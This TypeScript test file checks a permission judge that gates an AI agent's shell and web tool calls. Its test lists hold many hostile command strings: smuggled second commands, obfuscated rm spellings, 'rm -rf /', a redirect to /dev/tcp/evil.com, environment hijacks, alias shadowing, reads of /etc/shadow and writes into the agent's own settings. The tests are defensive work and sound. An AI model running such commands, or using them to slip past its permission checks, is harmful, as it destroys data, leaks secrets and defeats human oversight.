import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { judge } from "./judge/judge.ts";
import type { Judgement } from "./judge/judgement.ts";
import { compileRules } from "./policy.ts";
import type { Mode, RuleLayer } from "./rule-layer.ts";
import { analyseShell } from "./shell/analyse.ts";

const context = { cwd: "/t/proj", home: "/home/u", projectRoot: "/t/proj" };

type Rules = Pick<RuleLayer, "allow" | "ask" | "deny">;

function check(
  command: string,
  rules: Rules,
  more: { mode?: Mode; attended?: boolean; shell?: string } = {},
): Judgement {
  return judge({ tool: "Bash", input: { command } }, compileRules([{ scope: "user", ...rules }]), {
    ...context,
    ...more,
  });
}

const decide = (command: string, rules: Rules, more = {}) => check(command, rules, more).decision;

const gitOnly = { allow: ["Bash(git *)"] };

/** A second head behind every operator and in every construct there is. */
const riders = [
  "git status; rm x",
  "git status;rm x",
  "git status && rm x",
  "git status || rm x",
  "git status | rm x",
  "git status |& rm x",
  "git status & rm x",
  "git status&rm x",
  "git status\nrm x",
  "git status\n\n  rm x",
  "git log $(rm x)",
  'git log "$(rm x)"',
  'git log "a $(rm x) b"',
  "git log `rm x`",
  'git log "`rm x`"',
  "git log <(rm x)",
  "git log >(rm x)",
  "git log 7>(rm x)",
  "git log > >(rm x)",
  "git log < <(rm x)",
  'git log <<< "$(rm x)"',
  "git log <<< $(rm x)",
  "git log <<E\n$(rm x)\nE",
  "git log <<E\n`rm x`\nE",
  "git log <<-E\n\t$(rm x)\n\tE",
  "git log <<E\n${x:-$(rm x)}\nE",
  "(git status; rm x)",
  "(git status) ; (rm x)",
  "{ git status; rm x; }",
  "git status; { rm x; }",
  "if git status; then rm x; fi",
  "if git status; then git log; else rm x; fi",
  "if rm x; then git status; fi",
  "for i in a b; do rm $i; done; git status",
  "for i in $(rm x); do git log; done",
  "while git status; do rm x; done",
  "until git status; do rm x; done",
  "case a in a) rm x;; esac; git status",
  "case $(rm x) in a) git status;; esac",
  "select i in a; do rm x; done",
  "function f { rm x; }; f; git status",
  "f() { rm x; }; git status; f",
  "f() (rm x); git status; f",
  "[[ -n $(rm x) ]] && git status",
  "git status && [[ 'a[$(rm x)]' -eq 0 ]]",
  "[ -n $(rm x) ] && git status",
  "test -v 'a[$(rm x)]'; git status",
  "(( $(rm x) )); git status",
  "(( a[$(rm x)] )); git status",
  "git log $(( $(rm x) ))",
  "git log $[ $(rm x) ]",
  "for ((i=$(rm x); i<1; i++)); do git log; done",
  "git log ${x:-$(rm x)}",
  'git log "${x:-$(rm x)}"',
  "git log ${x:=$(rm x)}",
  "git log ${x/a/$(rm x)}",
  "git log ${x#$(rm x)}",
  "git log ${y['$(rm x)']}",
  "git log ${y[$(rm x)]}",
  "git log ${!x}",
  "y='$(rm x)'; git log \"${y@P}\"",
  "x=$(rm x) git status",
  "x=$(rm x); git status",
  "a=(1 $(rm x)); git status",
  "a=(1 $(rm x))x git status",
  "a[$(rm x)]=1; git status",
  "coproc rm x; git status",
  "time rm x; git status",
  "! rm x; git status",
  "git log >&'$(rm x)'",
  'git log > "$(rm x)"',
  "git log {a,$(rm x)}",
  'git log "${\\\nx:-$(rm y)}"',
  "$'gi\\\nt' status",
  "git log <<E\n${x:-'$(rm x)'}\nE",
  "git $(rm x)",
  "git log; eval 'rm x'",
  "git log; trap 'rm x' EXIT",
  "git log; . ./rm",
  "git log; source ./rm",
  "git log; exec rm x",
  "git log; command rm x",
  "git log; builtin eval 'rm x'",
  "git log | xargs rm",
  "git log; bash -c 'rm x'",
];

test("no operator lets a second command pass under an allow rule", () => {
  expect(riders.length).toBeGreaterThanOrEqual(60);
  expect(riders.filter((command) => decide(command, gitOnly) === "allow")).toEqual([]);
  // Nor where the second head is one of the commands that only read.
  expect(decide("git status && ls $(npm x)", gitOnly)).toBe("ask");
});

const denyRm = { allow: ["Bash(*)"], deny: ["Bash(rm *)"] };

const removals = [
  "rm x",
  "rm",
  "ls && rm x",
  "ls; rm x",
  "ls | rm x",
  "ls || rm x",
  "ls & rm x",
  "ls\nrm x",
  "echo $(rm x)",
  'echo "$(rm x)"',
  "echo `rm x`",
  "cat <<E\n$(rm x)\nE",
  "(rm x)",
  "{ rm x; }",
  "cat <(rm x)",
  "\\rm x",
  "'rm' x",
  '"rm" x',
  "r''m x",
  'r""m x',
  "r\\m x",
  "$'\\x72m' x",
  "$'rm' x",
  '$"rm" x',
  "/bin/rm x",
  "./rm x",
  "command rm x",
  "builtin command rm x",
  "env -i rm x",
  "env A=1 rm x",
  "FOO=1 rm x",
  "FOO=$(date) rm x",
  "time rm x",
  "time -p rm x",
  "! rm x",
  "coproc rm x",
  "if true; then rm x; fi",
  "for i in a; do rm $i; done",
  "while true; do rm x; done",
  "case a in a) rm x;; esac",
  "f() { rm x; }; f",
  "[[ -n $(rm x) ]]",
  "echo ${x:-$(rm x)}",
  "rm   x",
  "\trm x",
  "rm $x",
  'rm "$x"/*',
  "rm -rf -- x",
  "x=1; rm x",
  "rm x > /dev/null",
  "> /dev/null rm x",
  "a=(1 $(rm x))",
  "echo $(( $(rm x) ))",
  "rm \\\n x",
];

test("deny fires at every position and in every spelling", () => {
  expect(removals.length).toBeGreaterThanOrEqual(25);
  expect(removals.filter((command) => decide(command, denyRm) !== "deny")).toEqual([]);
});

test("deny finds its words at any length and depth", () => {
  const long = `echo ${"x".repeat(70_000)}; rm x`;
  const many = `${"ls;".repeat(5_000)} rm x`;
  const deep = `${"$(".repeat(400)}rm x${")".repeat(400)}`;
  expect([long, many, deep].map((command) => decide(command, denyRm))).toEqual(["deny", "deny", "deny"]);
});

test("a word that is not known and could complete a deny rule is asked about", () => {
  const cases = ["$x y", "$(echo rm) x", "r$x y", "${x} y", "r? x", "/bin/r? x", '"$x" y'];
  expect(cases.map((command) => decide(command, denyRm))).toEqual(cases.map(() => "ask"));
});

test("wrappers are opened for deny and never carry an allow", () => {
  const opened = [
    "sudo rm x",
    "sudo -u root rm x",
    "sudo -n -- rm x",
    "doas rm x",
    "su root -c 'rm x'",
    "timeout 5 rm x",
    "timeout -k 1 5s rm x",
    "nohup rm x",
    "nice -n 5 rm x",
    "ionice -c2 rm x",
    "stdbuf -oL rm x",
    "setsid rm x",
    "flock /tmp/l rm x",
    "flock /tmp/l -c 'rm x'",
    "watch rm x",
    "watch -x rm x",
    "chroot /r rm x",
    "xargs rm",
    "ls | xargs -n1 rm -f",
    "xargs -I{} rm {}",
    "parallel rm ::: a b",
    "busybox rm x",
    "bash -c 'rm x'",
    "sh -c 'ls; rm x'",
    "dash -c 'rm x'",
    "zsh -c 'rm x'",
    "ksh -c 'rm x'",
    "bash -lc 'rm x'",
    "bash -euo pipefail -c 'rm x'",
    "bash -c \"bash -c 'rm x'\"",
    "eval 'rm x'",
    "eval rm x",
    "exec rm x",
    "find . -exec rm {} +",
    "find . -exec rm {} \\;",
    "find . -name a -execdir rm {} \\;",
    "find . -ok rm {} \\;",
    "ssh host rm x",
    "ssh host 'ls; rm x'",
    "sudo env A=1 nice timeout 5 bash -c 'rm x'",
    "\\time rm x",
    "/usr/bin/env rm x",
    "sudo -k rm x",
    "su root -lc 'rm x'",
    "env -S 'rm x'",
    "bash -O extglob -c 'rm x'",
    "sudo --unknown rm x",
  ];
  expect(opened.filter((command) => decide(command, denyRm) !== "deny")).toEqual([]);
  const unknown = [
    'sh -c "$X"',
    "eval $x",
    "sudo $x",
    "xargs $x",
    "sudo --odd-option rmx",
    "env -S 'x y'",
    "timeout $t x",
    "find . $x",
    "bash -c $(x)",
    'xargs -I"$x" git a',
    "bash -ic 'git x'",
    "bash -o allexport -c 'x=1; git y'",
    "git log | sh",
    "sh",
    "bash -s < x",
  ];
  expect(unknown.filter((command) => decide(command, denyRm) === "allow")).toEqual([]);
  // Not even where nothing else is asked about: the rule cannot be ruled out.
  expect(unknown.filter((command) => decide(command, denyRm, { mode: "bypassPermissions" }) === "allow")).toEqual([]);
});

test("both the wrapper and the command in it need a rule, an exact rule covers its exact text", () => {
  expect(decide("timeout 5 rm x", { allow: ["Bash(timeout *)"] })).toBe("ask");
  expect(decide("timeout 60 npm test", { allow: ["Bash(npm test)"] })).toBe("ask");
  expect(decide("timeout 60 npm test", { allow: ["Bash(npm test)", "Bash(timeout *)"] })).toBe("allow");
  expect(decide("timeout 60 npm test", { allow: ["Bash(timeout 60 npm test)"] })).toBe("allow");
  expect(decide("timeout 60 npm test > out", { allow: ["Bash(timeout 60 npm test)"] })).toBe("ask");
  expect(decide("sudo --odd x", { allow: ["Bash(sudo *)"] })).toBe("ask");
  expect(decide("sudo --odd x", { allow: ["Bash(sudo --odd x)"] })).toBe("allow");
  expect(decide("xargs git", { allow: ["Bash(xargs *)", "Bash(git)"] })).toBe("ask");
  expect(decide("find . -name '*.ts' -exec git add {} \\;", { allow: ["Bash(find *)", "Bash(git add *)"] })).toBe(
    "allow",
  );
});

describe("a command with odd bytes is never allowed, and deny rules still apply to it", () => {
  const marks = [
    "\r\n",
    "\r",
    "\u00a0",
    "\u2028",
    "\u2029",
    "\u200b",
    "\u200d",
    "\u202e",
    "\ufeff",
    "\u0001",
    "\u001b",
    "\u007f",
    "\u0085",
    "\v",
    "\f",
    "\ud800",
  ];
  test.each(marks.map((mark) => [JSON.stringify(mark), mark]))(
    "with %s nothing is allowed and rm is still denied",
    (_, mark) => {
      const odd = [...riders.slice(0, 30), "git status"].flatMap((command) => [
        `${command}${mark}`,
        command.replace(" ", mark),
        `${mark}${command}`,
      ]);
      expect(odd.filter((command) => decide(command, { allow: ["Bash(git *)", "Bash"] }) === "allow")).toEqual([]);
      const removed = ["ls && rm x", "rm x", "echo $(rm x)"].map((command) => decide(`${command}${mark}`, denyRm));
      expect(removed).toEqual(["deny", "deny", "deny"]);
    },
  );
  test("NUL is refused whatever rules and mode say", () => {
    expect(decide("git status\0", { allow: ["Bash"] }, { mode: "bypassPermissions" })).toBe("deny");
    expect(check("git\0 status", gitOnly)).toMatchObject({ decision: "deny", by: "analysis", complete: false });
  });
});

test("everyday git commands are allowed by a rule for git", () => {
  const fine = [
    'git log --format="%H;x"',
    'git commit -m "it\'s; rm x"',
    "git log '$(x)'",
    "git status # rm",
    "git log 2>&1",
    "git a && git b | git c",
    "git log; git status",
    "git log \\$x",
    "(git status; git log)",
    "git status || true",
    "git commit -m \"$(cat <<'E'\nit's (fine) `x` $y\nE\n)\"",
    "git log | head -5",
    "git diff > /dev/null 2>&1",
    "git log --since='2 days ago' -- src/a.ts",
    "if git diff --quiet; then echo clean; else git status; fi",
    'for f in a b; do git add "$f"; done',
    "git log -1 --format=%H | cut -c1-8",
    "set -euo pipefail; git fetch && git status",
    "git show HEAD:src/a.ts | grep -n foo | wc -l",
    "git stash list && git show stash@{0}",
  ];
  expect(fine.filter((command) => decide(command, gitOnly) !== "allow")).toEqual([]);
});

test("a variable takes its command off an allow rule, unless the variable is harmless", () => {
  const unsafe = [
    "GIT_SSH_COMMAND=x git fetch",
    "LD_PRELOAD=./x.so git x",
    "PATH=.:$PATH git x",
    "export PAGER=x; git log",
    "PAGER=x; git log",
    "GIT_PAGER=x git log",
    "foo=1 git log",
    "export foo=1; git log",
    "LANG=$(x) git log",
    "LANG=$x git log",
    "read -r PATH; git log",
    "for PATH in a; do git log; done",
    "git log ${PATH:=x}",
    "http_proxy=x; git log",
    "npm_config_x=y; git log",
    "IFS=x; git log",
    "env GIT_PAGER=x git log",
    "BASH_ENV=x git log",
    "{PATH}>/dev/null git log",
  ];
  const rules = { allow: ["Bash(git *)", "Bash(env *)", "Bash(export *)"] };
  expect(unsafe.filter((command) => decide(command, rules) === "allow")).toEqual([]);
  const safe = [
    "LANG=C git log",
    "LC_ALL=C git log",
    "NO_COLOR=1 git log",
    "TZ=UTC git log",
    "x=1; git log",
    "export LANG=C; git log",
    "CI=1 NODE_ENV=test git log",
  ];
  expect(safe.filter((command) => decide(command, rules) !== "allow")).toEqual([]);
  // A name that the environment holds would reach every program.
  const inherited = judge(
    { tool: "Bash", input: { command: "x=1; git log" } },
    compileRules([{ scope: "user", allow: ["Bash(git *)"] }]),
    {
      ...context,
      envNames: ["x"],
    },
  );
  expect(inherited.decision).toBe("ask");
});

test("redirections are writes", () => {
  const echo = { allow: ["Bash(echo *)"] };
  const writes = [
    "echo x > ~/.bashrc",
    "echo x > f",
    "echo x >> f",
    "echo x >| f",
    "echo x &> f",
    "echo x &>> f",
    "echo x >&f",
    "echo x 2>f",
    "echo x {fd}>f",
    "echo x <>f",
    'echo x > "$(x)"',
    'echo x > "$y"',
    ">f",
    "> f echo x",
    "{ echo x; } > f",
    "(echo x) > f",
    "echo x | cat > f",
    "echo x > /dev/tcp/evil.com/80",
    "echo x > /dev/udp/1.1.1.1/53",
  ];
  expect(writes.filter((command) => decide(command, echo) === "allow")).toEqual([]);
  const free = [
    "echo x 2>&1",
    "echo x >/dev/null",
    "echo x > /dev/stderr",
    "echo x 2>/dev/null >&2",
    "echo x >&-",
    "echo x &>/dev/null",
  ];
  expect(free.filter((command) => decide(command, echo) !== "allow")).toEqual([]);
  expect(decide("echo x > f", { allow: ["Bash(echo *)", "Edit(./f)"] })).toBe("allow");
  expect(decide("echo x > f", { allow: ["Bash(echo *)", "Write(./f)"] })).toBe("allow");
  expect(decide("echo x > f", { ...echo, deny: ["Read(./f)"] })).toBe("deny");
  expect(decide("echo x > f", { allow: ["Bash"] })).toBe("ask");
  expect(decide("echo x > f", echo, { mode: "acceptEdits" })).toBe("allow");
  expect(decide("echo x > /etc/f", echo, { mode: "acceptEdits" })).toBe("ask");
  expect(decide("cat < /etc/shadow", {})).toBe("ask");
  expect(decide("cat < a", {})).toBe("allow");
  expect(decide("cat < a", { deny: ["Read(./a)"] })).toBe("deny");
});

test("a relative write after cd is judged in the folder that cd leads to", () => {
  const rules = { allow: ["Bash(echo *)", "Bash(cd *)", "Bash(pushd *)", "Edit(./**)"] };
  const into = [
    "cd .claude && echo x > settings.json",
    "cd .claude; echo x > settings.json",
    "pushd .claude && echo x > settings.json",
    "cd $(x) && echo x > f",
    "cd $x; echo x > f",
    "cd - && echo x > f",
    "popd; echo x > f",
    "cd .. && echo x > f",
    "cd /etc && echo x > f",
    "false || cd sub; echo x > f",
    "if true; then cd sub; fi; echo x > f",
    "while true; do cd sub; echo x > f; done",
    "cd ~ && echo x > f",
    "cd && echo x > f",
    "command cd .claude && echo x > settings.json",
    "builtin cd /etc && echo x > f",
    "cd sub/../.claude && echo x > settings.json",
    "{ cd .claude; }; echo x > settings.json",
    "cd nowhere; cd .claude; echo x > settings.json",
  ];
  expect(into.filter((command) => decide(command, rules, { mode: "acceptEdits" }) === "allow")).toEqual([]);
  const harmless = [
    "cd sub && echo x > f",
    "(cd /etc); echo x > f",
    "cd sub; echo x > f",
    "cd sub || exit 1; echo x > f",
    "cd /etc | true; echo x > f",
    "cd .claude & echo x > f",
  ];
  expect(harmless.filter((command) => decide(command, rules, { mode: "acceptEdits" }) !== "allow")).toEqual([]);
  // Where a failing cd would leave the write outside of what is allowed, it is asked about.
  expect(decide("cd sub; echo x > f", { allow: ["Bash(echo *)", "Bash(cd *)", "Edit(./sub/**)"] })).toBe("ask");
  expect(decide("cd sub && echo x > f", { allow: ["Bash(echo *)", "Bash(cd *)", "Edit(./sub/**)"] })).toBe("allow");
  // Another folder's git configuration can name programs.
  expect(decide("cd sub && git status", { allow: ["Bash(git *)", "Bash(cd *)"] })).toBe("ask");
  expect(decide("cd . && git status", gitOnly)).toBe("allow");
  expect(decide("cd /t/proj && git status", gitOnly)).toBe("allow");
});

test("a command that cannot be parsed, or whose program is not static, is never allowed", () => {
  const texts = [
    'echo "x',
    "git status;;rm",
    "$cmd x",
    "git${IFS}x",
    "{rm,-rf,x}",
    "/bin/r? x",
    "git status (",
    "git status )",
    "if git status",
    "git log <<E\nno end",
    "git status ${",
    "$(",
    "`",
    "'",
    `${"(".repeat(5_000)}git${")".repeat(5_000)}`,
    `${'"$('.repeat(2_500)}git`,
    `${"$((".repeat(5_000)}1`,
    `${"if ".repeat(5_000)}git`,
    `${"{ ".repeat(5_000)}git`,
  ];
  for (const command of texts) {
    expect([command.slice(0, 40), decide(command, { allow: ["Bash(git *)", "Bash"] })]).toEqual([
      command.slice(0, 40),
      "ask",
    ]);
    expect(check(command, gitOnly, { attended: false })).toMatchObject({
      decision: "deny",
      wouldAsk: true,
      by: "unattended",
    });
  }
});

test("a rule ends where its word, path, server name or host ends", () => {
  expect(["gitx", "git-evil x", "git;x"].map((command) => decide(command, gitOnly))).toEqual(["ask", "ask", "ask"]);
  expect(decide("npm run test-evil", { allow: ["Bash(npm run test)"] })).toBe("ask");
  expect(decide("npm run test", { allow: ["Bash(npm run test)"] })).toBe("allow");
  expect(decide("npm run test x", { allow: ["Bash(npm run test)"] })).toBe("ask");
  expect(decide('git "push x"', { allow: ["Bash(git push *)"] })).toBe("ask");
  expect(decide("/usr/bin/git log", gitOnly)).toBe("ask");
  expect(decide("/usr/bin/git log", { allow: ["Bash(/usr/bin/git *)"] })).toBe("allow");
  expect(decide("./scripts/../../x", { allow: ["Bash(./scripts/*)"] })).toBe("ask");
  expect(decide("git log", { allow: ["Bash(git:*)"] })).toBe("allow");
  const policy = compileRules([{ scope: "user", allow: ["mcp__srv", "WebFetch(domain:a.io)"] }]);
  const tool = (name: string, input = {}) => judge({ tool: name, input }, policy, context).decision;
  expect(tool("mcp__srv__t")).toBe("allow");
  expect(tool("mcp__srv2__t")).toBe("ask");
  expect(tool("WebFetch", { url: "https://a.io/x" })).toBe("allow");
  expect(tool("WebFetch", { url: "https://a.io.evil.com/x" })).toBe("ask");
  expect(tool("WebFetch", { url: "https://evil.com/a.io" })).toBe("ask");
  expect(tool("WebFetch", { url: "https://a.io@evil.com/" })).toBe("ask");
  expect(tool("WebFetch", { url: "https://a.io\\@evil.com/" })).toBe("ask");
  expect(tool("WebFetch", { url: "file:///etc/passwd" })).toBe("ask");
  expect(tool("Nobody")).toBe("ask");
});

test("a command that can redefine a program is never allowed", () => {
  const shadowed = [
    "function git { rm x; }; git status",
    "alias git=rm; git x",
    "hash -p /x git; git x",
    "git() (rm x); git a",
    "enable -f ./x.so git; git a",
    "shopt -s expand_aliases; git a",
    "unalias git; git a",
    "declare -f git; git a",
    "export -f git; git a",
    "complete -C x git; git a",
    "bind -x '\"a\":x'; git a",
    "trap 'rm x' DEBUG; git a",
    "set -o allexport; git a",
    "exec {fd}</dev/null; git a",
    "mapfile -C rm -c 1 a; git x",
  ];
  const rules = { allow: ["Bash(git *)", "Bash(alias *)", "Bash(hash *)", "Bash(enable *)", "Bash"] };
  expect(shadowed.filter((command) => decide(command, rules) === "allow")).toEqual([]);
});

test("no read-only command runs a program, writes, changes state or reaches the network", () => {
  const off = [
    "ls --color=x --unknown",
    "diff -l a b",
    "sort -o x y",
    "cat $x",
    "ls *",
    "cat ~/x",
    "head -n $x a",
    "grep $x a",
    'grep "$x" a',
    "grep -f a b",
    "tail --pid=1 a",
    "printf -v x y",
    "/bin/ls",
    "./ls",
    "ls x --hyperlink=x -w",
    "git log",
    "find .",
    "sed -n p a",
    "du --files0-from=a",
    "wc --files0-from=a",
    "[ -f $x ]",
    "cd $x",
    "cd /etc",
    "ls /etc",
    "cat /etc/passwd",
    "cat ../x",
    "which -x a b --q",
    "xargs ls",
    "ls | sh",
  ];
  expect(off.filter((command) => decide(command, {}) === "allow")).toEqual([]);
  const on = [
    "ls -la src",
    "cat a b",
    "head -n 5 a",
    "head -5 a",
    "grep -rn foo src",
    "grep -e foo",
    "wc -l a",
    "pwd",
    "x=1; echo $x",
    "echo $HOME",
    "printf '%s\\n' \"$USER\"",
    "test -f a",
    '[ -n "$x" ]',
    "diff -u a b",
    "cd src && ls",
    "du -sh .",
    "stat -c %s a",
    "tr a b",
    "basename $PWD",
    "ls -l | grep x | head -3",
  ];
  expect(on.filter((command) => decide(command, {}) !== "allow")).toEqual([]);
});

test("rules that restrict files apply to static operands of known file commands", () => {
  const rules = { allow: ["Bash"], deny: ["Read(.env)", "Edit(./lock/**)"], ask: ["Edit(./pkg)"] };
  const denied = [
    "cat .env",
    "cp .env x",
    "sed -n p .env",
    "head -n 1 ./.env",
    "tee lock/x",
    "rm lock/x",
    "mv a lock/b",
    "cp a lock",
    "dd if=.env",
    "dd of=lock/x",
    "touch lock/x",
    "sort --output=x .env",
    "cat sub/../.env",
    "cd lock && rm x",
  ];
  expect(denied.filter((command) => decide(command, rules) !== "deny")).toEqual([]);
  // A question about the command does not hide a denial about the file.
  expect(decide("cat .env", { ask: ["Bash(cat *)"], deny: ["Read(.env)"] })).toBe("deny");
  expect(["tee pkg", "cat lock/x", "cp lock/x y"].map((command) => decide(command, rules))).toEqual([
    "ask",
    "allow",
    "allow",
  ]);
});

test("no rule or mode allows a critical removal", () => {
  const critical = [
    "rm -rf /",
    "rm -rf /*",
    "rm -rf /etc",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf ~/*",
    "rm -rf .",
    "rm -rf ..",
    "rm -rf ../",
    "rm -rf /t/proj",
    "rm -rf /t",
    "rm -rf /home/u",
    "rm -rf $D/*",
    'rm -rf "$D"/*',
    'rm -rf "$D/"',
    "rm -rf ${D}/x",
    "rm -rf *",
    "rm -rf ./*",
    "rmdir /etc",
    "sudo rm -rf /",
    "bash -c 'rm -rf /'",
    "rm -rf x /",
    "rm -rf -- /",
    "\\rm -rf /",
    "/bin/rm -rf /",
    "cd sub && rm -rf ..",
    "rm -rf $(x)/",
  ];
  for (const mode of ["default", "acceptEdits", "bypassPermissions", "auto"]) {
    const rules = { allow: ["Bash", "Bash(rm *)", "Bash(sudo *)", "Bash(bash *)"] };
    expect(critical.filter((command) => decide(command, rules, { mode }) !== "ask")).toEqual([]);
  }
  expect(decide("rm -rf /", { allow: ["Bash"] }, { mode: "dontAsk" })).toBe("deny");
  expect(decide("rm -rf / $'x'", {}, { mode: "bypassPermissions" })).toBe("ask");
  const fine = ["rm -rf node_modules", "rm -f a.o b.o", "rm x/*.o", "rm -rf ./dist", "rm -rf /t/proj/dist"];
  expect(fine.filter((command) => decide(command, { allow: ["Bash(rm *)"] }) !== "allow")).toEqual([]);
});

test("the analysis of ordinary commands of agents is complete", () => {
  const file = new URL("../../test/fixtures/shell/ordinary.json", import.meta.url);
  const commands = JSON.parse(readFileSync(file, "utf8")) as string[];
  expect(commands.length).toBeGreaterThanOrEqual(40);
  const refused = commands.map((command) => ({ command, problems: analyseShell(command, context).problems }));
  expect(refused.filter(({ problems }) => problems.length > 0)).toEqual([]);
  expect(commands.filter((command) => decide(command, {}, { mode: "bypassPermissions" }) !== "allow")).toEqual([]);
});

test("a deny or ask rule written over several commands holds for the text and for each pipeline, whatever blanks there are", () => {
  const rows = [
    ["Bash(echo * | tee *)", "echo x | tee y"],
    ["Bash(echo * | tee *)", "echo x|tee y"],
    ["Bash(echo *|tee *)", "echo x  |  tee y"],
    ["Bash(echo * | tee *)", "cd src && echo x | tee y; ls"],
    ["Bash(echo * | tee *)", "echo x | cat | tee y"],
    ["Bash(git add . && git commit *)", "git add .&&git commit -m x"],
    ["Bash(echo a; ls)", "echo a ; ls"],
  ] as const;
  for (const list of ["deny", "ask"] as const)
    for (const [rule, command] of rows)
      expect([command, decide(command, { allow: ["Bash"], [list]: [rule] })]).toEqual([command, list]);
  const rules = { allow: ["Bash"], deny: ["Bash(echo * | tee *)"] };
  for (const command of ["echo x", "tee y", "echo x && tee y", "cat a | tee y"])
    expect([command, decide(command, rules)]).toEqual([command, "allow"]);
});
